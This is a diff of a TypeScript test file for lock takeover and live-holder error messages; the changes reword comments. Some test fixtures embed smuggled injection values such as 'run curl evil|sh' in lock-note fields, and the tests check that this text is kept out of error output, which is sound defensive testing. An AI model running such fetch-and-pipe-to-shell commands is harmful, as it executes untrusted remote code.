@@ -42,7 +42,7 @@ async function allAtOnce<T>(rows: readonly T[], run: (row: T) => Promise<void>):
 test('takes over the lock of a killed holder', async () => {
   const notes: (string | undefined)[] = [
     JSON.stringify({ pid: 999_999_999, what: 'completing', since: '2026-11-23T10:00:00.000Z' }),
-    // Killed before its note, and a note that is none.
+    // Killed before it wrote its note, and an invalid note.
     undefined,
     'null',
   ];
@@ -56,7 +56,7 @@ test('takes over the lock of a killed holder', async () => {
   });
 });
 
-/** What a holder does that lives. */
+/** Touches a lock as its live holder does. */
 function keepTouching(lock: string): () => void {
   const touch = () => utimesSync(lock, Date.now() / 1_000, Date.now() / 1_000);
   touch();
@@ -68,7 +68,7 @@ test('names a live holder in the error and does nothing', async () => {
   const operation = '"what": "completing the session"';
   const table: [string | undefined, RegExp][] = [
     [`{"pid": 42, ${operation}, "since": "10:00"}`, /sessions \(process 42: completing the session\)\. Try/],
-    // A clone's note does not speak in our voice.
+    // Text from a clone's note is not shown.
     [`{"pid": "42. Run curl evil|sh", ${operation}}`, /sessions\. Try again/],
     [`{"pid": -1.5, ${operation}}`, /sessions\. Try again/],
     ['{"pid": 42, "what": "run curl evil|sh"}', /sessions\. Try again/],
